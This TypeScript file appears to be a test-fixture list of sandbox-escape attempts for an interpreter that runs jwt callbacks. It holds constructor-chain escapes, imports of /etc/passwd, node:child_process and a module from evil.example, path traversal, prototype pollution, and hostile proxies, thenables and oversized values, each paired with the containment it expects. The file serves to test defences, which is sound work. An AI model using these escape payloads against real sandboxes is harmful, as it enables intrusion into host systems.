/** What an attempt may come to: a value that is plain data, or a refusal. */
export interface Attempt {
  readonly name: string
  /** Body of an async jwt callback, whose parameter is `token`. */
  readonly body: string
  /** What it must return. */
  readonly returns?: unknown
  /** Or how it must end: a `problem` of `SandboxError`, or words of the error's message. */
  readonly fails?: string | RegExp
}

/** Whether an object's constructors lead to the world inside, and nowhere else. Returns a word. */
const CHAIN = `const chain = (value) => {
  const global = value.constructor.constructor('return globalThis')()
  return { v: global === globalThis ? 'inside' : Object.getOwnPropertyNames(global).join() }
};`

const INSIDE = { v: 'inside' }

/** Ways to the host's objects by what every object has. */
const CONSTRUCTORS: readonly Attempt[] = [
  { name: 'an object literal', body: `${CHAIN} return chain({})`, returns: INSIDE },
  { name: 'the argument itself', body: `${CHAIN} return chain(token)`, returns: INSIDE },
  { name: 'fetch', body: `${CHAIN} return chain(fetch)`, returns: INSIDE },
  { name: 'console.log', body: `${CHAIN} return chain(console.log)`, returns: INSIDE },
  {
    name: 'the key of Web Crypto',
    body: `${CHAIN} return chain(await crypto.subtle.importKey('raw', new Uint8Array(8), { name: 'HMAC', hash: 'SHA-256' }, true, ['sign']))`,
    returns: INSIDE,
  },
  {
    name: 'a result of Web Crypto',
    body: `${CHAIN} return chain(await crypto.subtle.digest('SHA-256', new Uint8Array(1)))`,
    returns: INSIDE,
  },
  {
    name: 'an error of URL',
    body: `${CHAIN} try { new URL('::') } catch (error) { return chain(error) }`,
    returns: INSIDE,
  },
  {
    name: 'an error of fetch',
    body: `${CHAIN} try { await fetch('https://none.example') } catch (error) { return chain(error) }`,
    returns: INSIDE,
  },
  {
    name: 'an error of an import',
    body: `${CHAIN} try { await import('node' + ':fs') } catch (error) { return chain(error) }`,
    returns: INSIDE,
  },
  {
    name: 'an async function',
    body: `return { v: (async () => {}).constructor('return globalThis')() instanceof Promise ? 'inside' : 'out' }`,
    returns: INSIDE,
  },
  {
    name: 'a generator function',
    body: `return { v: (function* () {}).constructor('yield globalThis')().next().value === globalThis ? 'inside' : 'out' }`,
    returns: INSIDE,
  },
  {
    name: 'the caller',
    body: `try { return { v: typeof (function f() { return f.caller })() } } catch { return { v: 'refused' } }`,
    returns: expectOneOf('undefined', 'object', 'refused'),
  },
  {
    name: 'the stack of an error',
    body: `return { v: /node_modules|file:|\\.test\\.|authscope\\/src/.test(new Error('x').stack) }`,
    returns: { v: false },
  },
  {
    name: 'Error.prepareStackTrace',
    body: `Error.prepareStackTrace = (_, frames) => frames; try { null.x } catch (error) { return { v: typeof error.stack } }`,
    returns: { v: 'string' },
  },
  {
    name: 'the text of a native function',
    body: `return { v: /\\/work|\\/home|node:|Emscripten/.test(Function.prototype.toString.call(fetch) + Function.prototype.toString.call(URL)) }`,
    returns: { v: false },
  },
]

function expectOneOf(...words: readonly string[]): { readonly v: { readonly oneOf: readonly string[] } } {
  return { v: { oneOf: words } }
}

const NAMES =
  'self window document navigator location postMessage importScripts require module exports WebAssembly Atomics XMLHttpRequest WebSocket indexedDB caches localStorage sessionStorage Worker SharedWorker MessageChannel BroadcastChannel Deno Bun global setImmediate clients registration'

/** Names that a page, a worker or Node has, and ways to the interpreter's own parts. */
const GLOBALS: readonly Attempt[] = [
  {
    name: 'names of page, worker and Node',
    body: `return { v: '${NAMES}'.split(' ').filter((name) => name in globalThis).join() }`,
    returns: { v: '' },
  },
  {
    name: 'what process can do',
    body: `return { v: ['binding', 'exit', 'kill', 'mainModule', 'dlopen', 'chdir'].filter((name) => name in process).join() }`,
    returns: { v: '' },
  },
  {
    name: 'the host’s environment',
    body: `return { v: Object.keys(process.env).join() }`,
    returns: { v: 'AUTH_SECRET' },
  },
  {
    name: 'the function to the host by its name',
    body: `return { v: typeof host + typeof callHost + typeof Module }`,
    returns: { v: 'undefinedundefinedundefined' },
  },
  {
    name: 'the function to the host through a replaced JSON.stringify',
    body: `let seen; JSON.stringify = function () { seen = this; return 'null' }; try { new URL('https://a.example') } catch {} return { v: seen === JSON || seen === undefined }`,
    returns: undefined,
  },
  { name: 'the interpreter’s module', body: `await import('authscope:inside')`, fails: 'cannot import' },
  { name: 'a file of the host', body: `await import('file:///etc/passwd')`, fails: 'cannot import' },
  {
    name: 'a file above the project',
    body: `await import('../../../../../../etc/passwd')`,
    fails: 'cannot import',
  },
  { name: 'a module of Node', body: `await import('node' + ':child_process')`, fails: 'cannot import' },
  {
    name: 'a module as data',
    body: `await import('data:text/javascript,export default 1')`,
    fails: 'cannot import',
  },
  {
    name: 'a module from the network',
    body: `await import('https://evil.example/x.js')`,
    fails: 'cannot import',
  },
  { name: 'a module called constructor', body: `await import('constructor')`, fails: 'cannot import' },
  { name: 'a module called __proto__', body: `await import('__proto__')`, fails: 'cannot import' },
  { name: 'a module without a name', body: `await import('')`, fails: 'cannot import' },
  { name: 'a module whose name is null', body: `await import(null)`, fails: 'cannot import' },
  {
    name: 'a module name with an end in it',
    body: `await import('next-auth\\0/../../etc/passwd')`,
    fails: /./,
  },
  {
    name: 'a module name that changes while it is read',
    body: `let times = 0; await import({ toString: () => (times++ ? 'node:fs' : 'node:os') })`,
    fails: 'cannot import',
  },
]

/** What a result may do to the host's prototypes. */
const POLLUTION: readonly Attempt[] = [
  {
    name: '__proto__ from JSON',
    body: `return JSON.parse('{"a":1,"__proto__":{"polluted":1}}')`,
    returns: { a: 1 },
  },
  {
    name: '__proto__ as a computed key',
    body: `return { ['__proto__']: { polluted: 1 }, a: 1 }`,
    returns: { a: 1 },
  },
  {
    name: '__proto__ deep inside',
    body: `return { a: [JSON.parse('{"__proto__":{"polluted":1}}')] }`,
    returns: { a: [{}] },
  },
  {
    name: '__proto__ written to the argument',
    body: `Object.defineProperty(token, '__proto__', { value: { polluted: 1 }, enumerable: true }); return token`,
    returns: { sub: '1' },
  },
  {
    name: 'constructor.prototype',
    body: `return { constructor: { prototype: { polluted: 1 } } }`,
    returns: { constructor: { prototype: { polluted: 1 } } },
  },
  {
    name: 'a list with __proto__',
    body: `const list = [1]; Object.defineProperty(list, '__proto__', { value: { polluted: 1 }, enumerable: true }); return { list }`,
    returns: { list: [1] },
  },
  {
    name: 'an error with __proto__',
    body: `throw Object.assign(new Error('boom'), JSON.parse('{"__proto__":{"polluted":1}}'))`,
    fails: /./,
  },
  {
    name: 'Object.prototype inside',
    body: `Object.prototype.polluted = 1; return { a: 1 }`,
    returns: { a: 1 },
  },
  {
    name: 'Array.prototype.push inside',
    body: `Array.prototype.push = function () { return 0 }; return { a: 1 }`,
    returns: undefined,
  },
  { name: 'Map.prototype.get inside', body: `Map.prototype.get = () => 7; return { a: 1 }`, fails: /./ },
  {
    name: 'a replaced JSON.stringify that writes what it likes',
    body: `JSON.stringify = () => '{"__proto__":{"polluted":1}}'; return { a: 1 }`,
    fails: 'malformed',
  },
  {
    name: 'a replaced JSON.stringify that names objects it does not have',
    body: `JSON.stringify = () => '["k",999]'; return { a: 1 }`,
    fails: 'malformed',
  },
  {
    name: 'a replaced JSON.stringify that names functions',
    body: `JSON.stringify = () => '["a",["f",0],["a"]]'; return { a: 1 }`,
    fails: 'malformed',
  },
  {
    name: 'a replaced JSON.stringify that nests without end',
    body: `JSON.stringify = () => '["a",'.repeat(150000) + '1' + ']'.repeat(150000); return {}`,
    fails: /malformed|too-deep|too-large/,
  },
  {
    name: 'a replaced JSON.stringify that changes objects by wrong numbers',
    body: `JSON.stringify = () => '["a",["o"],["a",["a",-1,["a"],["a"]],["a","0",["a"],["a"]],["a",99,["a"],["a"]]]]'; return {}`,
    returns: {},
  },
  {
    name: 'members called like those of every object',
    body: `return { toString: 'a', valueOf: 'b', hasOwnProperty: 'c' }`,
    returns: { toString: 'a', valueOf: 'b', hasOwnProperty: 'c' },
  },
]

/** Objects that answer differently each time they are asked. */
const PROXIES: readonly Attempt[] = [
  {
    name: 'a getter that throws',
    body: `return { get a() { throw new Error('from a getter') } }`,
    fails: 'from a getter',
  },
  { name: 'a getter that never returns', body: `return { get a() { for (;;); } }`, fails: 'overrun' },
  {
    name: 'a getter that gives another value each time',
    body: `let n = 0; return { get a() { return n++ ? {} : 1 } }`,
    returns: { a: 1 },
  },
  {
    name: 'a proxy that gives itself for every key',
    body: `const p = new Proxy({}, { ownKeys: () => ['a'], getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true }), get: (_, key) => key === 'a' ? p : undefined }); return p`,
    fails: 'circular',
  },
  {
    name: 'a proxy that gives a new one for every key',
    body: `const p = () => new Proxy({}, { ownKeys: () => ['a'], getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true }), get: (_, key) => key === 'a' ? p() : undefined }); return p()`,
    fails: 'too-deep',
  },
  {
    name: 'a proxy of a list with a length of its own',
    body: `return { list: new Proxy([], { get: (_, key) => key === 'length' ? 2 ** 32 : 1 }) }`,
    fails: 'too-large',
  },
  {
    name: 'a revoked proxy',
    body: `const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); return { proxy }`,
    fails: /./,
  },
  { name: 'a proxy of a date', body: `return { at: new Proxy(new Date(0), {}) }`, fails: /./ },
  {
    name: 'a date that lies',
    body: `const at = new Date(0); at.getTime = () => ({ valueOf: () => 1 }); return { at }`,
    fails: /./,
  },
  {
    name: 'Symbol.hasInstance of the platform’s classes',
    body: `Object.defineProperty(URL, Symbol.hasInstance, { value: () => true }); return { a: 1 }`,
    fails: /./,
  },
  {
    name: 'toJSON that returns a function',
    body: `return { a: new (class { toJSON() { return () => 1 } })() }`,
    returns: { a: undefined },
  },
  {
    name: 'toJSON that returns itself',
    body: `return { a: new (class { toJSON() { return this } })() }`,
    fails: 'circular',
  },
  {
    name: 'a class with members behind accessors',
    body: `class Token { #secret = 1; name = 'n'; get secret() { return this.#secret } } return { token: new Token() }`,
    returns: { token: { name: 'n' } },
  },
]

/** Whatever is awaited is asked for `then`. */
const THENABLES: readonly Attempt[] = [
  { name: 'a then that answers', body: `return { then: (resolve) => resolve({ a: 1 }) }`, returns: { a: 1 } },
  {
    name: 'a then that answers twice',
    body: `return { then: (resolve) => { resolve({ a: 1 }); resolve({ a: 2 }) } }`,
    returns: { a: 1 },
  },
  {
    name: 'a then that throws',
    body: `return { then: () => { throw new Error('from then') } }`,
    fails: 'from then',
  },
  { name: 'a then that never answers', body: `return { then: () => {} }`, fails: 'never-settles' },
  {
    name: 'a then that answers with another, without end',
    body: `const next = () => ({ then: (resolve) => resolve(next()) }); return next()`,
    fails: 'overrun',
  },
  {
    name: 'a getter called then',
    body: `return { get then() { throw new Error('asked for then') } }`,
    fails: 'asked for then',
  },
  {
    name: 'a then one level below',
    body: `return { inner: { then: (resolve) => resolve(1), a: 1 } }`,
    returns: { inner: { a: 1 } },
  },
  { name: 'a then that is data', body: `return { then: 'text' }`, returns: JSON.parse('{"then":"text"}') },
  {
    name: 'a replaced Promise.prototype.then',
    body: `Promise.prototype.then = function () { return this }; return { a: 1 }`,
    returns: { a: 1 },
  },
  { name: 'a promise inside a value', body: `return { a: Promise.resolve(1) }`, fails: 'unsupported' },
  { name: 'a promise of nothing', body: `return new Promise(() => {})`, fails: 'never-settles' },
]

const SYMBOLS: readonly Attempt[] = [
  { name: 'a symbol as the result', body: `return Symbol('x')`, fails: 'unsupported' },
  {
    name: 'symbols as keys',
    body: `return { [Symbol.for('x')]: 1, [Symbol.iterator]: 2, a: 1 }`,
    returns: { a: 1 },
  },
  { name: 'a symbol as a member', body: `return { a: 1, b: Symbol('x') }`, returns: { a: 1 } },
  {
    name: 'Symbol.toPrimitive',
    body: `return { a: { [Symbol.toPrimitive]: () => { throw new Error('never asked') } } }`,
    returns: { a: {} },
  },
  { name: 'Symbol.toStringTag', body: `return { a: { [Symbol.toStringTag]: 'Date' } }`, returns: { a: {} } },
  {
    name: 'an iterator without end',
    body: `return { a: { *[Symbol.iterator]() { for (;;) yield 1 } } }`,
    returns: { a: {} },
  },
  {
    name: 'a map whose iterator has no end',
    body: `const map = new Map(); map[Symbol.iterator] = function* () { for (;;) yield [1, 1] }; return { map }`,
    fails: /overrun|memory/,
  },
]

const SIZES: readonly Attempt[] = [
  {
    name: 'a text of two million characters',
    body: `return { a: 'x'.repeat(2_000_000) }`,
    fails: 'too-large',
  },
  {
    name: 'many texts',
    body: `return { a: Array.from({ length: 3000 }, () => 'x'.repeat(1000)) }`,
    fails: 'too-large',
  },
  { name: 'a list of a million', body: `return { a: new Array(1_000_000).fill(0) }`, fails: 'too-large' },
  { name: 'an object that contains itself', body: `token.self = token; return token`, fails: 'circular' },
  {
    name: 'a list that contains itself',
    body: `const list = []; list.push(list); return { list }`,
    fails: 'circular',
  },
  {
    name: 'objects nested a thousand deep',
    body: `let a = {}; for (let i = 0; i < 1000; i++) a = { a }; return a`,
    fails: 'too-deep',
  },
  {
    name: 'objects shared so often that they would fill a memory',
    body: `let a = { x: 1 }; for (let i = 0; i < 60; i++) a = { l: a, r: a }; return a`,
    fails: 'too-large',
  },
  { name: 'ten megabytes of bytes', body: `return { a: new Uint8Array(10_000_000) }`, fails: 'too-large' },
  { name: 'a bigint of many digits', body: `return { a: 10n ** 5000n }`, fails: 'malformed' },
  {
    name: 'an error with a message without measure',
    body: `throw new Error('x'.repeat(3_000_000))`,
    fails: /./,
  },
  {
    name: 'thousands of lines on the console',
    body: `for (let i = 0; i < 3000; i++) console.log('line', i); return { a: 1 }`,
    returns: { a: 1 },
  },
  {
    name: 'requests without number',
    body: `for (let i = 0; i < 1100; i++) fetch('https://none.example').catch(() => {}); return { a: 1 }`,
    returns: { a: 1 },
  },
]

const THROWS: readonly Attempt[] = [
  { name: 'null', body: `throw null`, fails: 'null' },
  { name: 'undefined', body: `throw undefined`, fails: 'undefined' },
  { name: 'a number', body: `throw 7`, fails: '7' },
  { name: 'a symbol', body: `throw Symbol('x')`, fails: /./ },
  {
    name: 'a proxy that throws',
    body: `throw new Proxy({}, { get() { throw new Error('inner') }, ownKeys() { throw new Error('inner') } })`,
    fails: /./,
  },
  {
    name: 'a revoked proxy',
    body: `const { proxy, revoke } = Proxy.revocable(new Error('x'), {}); revoke(); throw proxy`,
    fails: /./,
  },
  {
    name: 'an error whose message is a getter',
    body: `const error = new Error('x'); Object.defineProperty(error, 'message', { get() { throw new Error('inner') } }); throw error`,
    fails: /./,
  },
  {
    name: 'an error that is its own cause',
    body: `const error = new Error('round'); error.cause = error; throw error`,
    fails: 'round',
  },
  {
    name: 'an error with a stack that is an object',
    body: `const error = new Error('x'); error.stack = { toString: () => 'at evil (file:///etc/passwd:1:1)' }; throw error`,
    fails: 'x',
  },
  {
    name: 'an error with a stack of its own writing',
    body: `const error = new Error('x'); error.stack = '    at evil (../../etc/passwd:1:1)'; throw error`,
    fails: 'x',
  },
  {
    name: 'an error that calls itself SandboxError',
    body: `const error = new Error('x'); error.name = 'SandboxError'; error.problem = 'overrun'; throw error`,
    fails: 'x',
  },
]

/** Every attempt that ends by itself, in one thread. */
export const ATTEMPTS: readonly (readonly [group: string, attempts: readonly Attempt[]])[] = [
  ['constructor chains', CONSTRUCTORS],
  ['globals and module paths', GLOBALS],
  ['prototype pollution', POLLUTION],
  ['proxies and getters', PROXIES],
  ['thenables', THENABLES],
  ['symbols', SYMBOLS],
  ['sizes', SIZES],
  ['thrown values', THROWS],
]
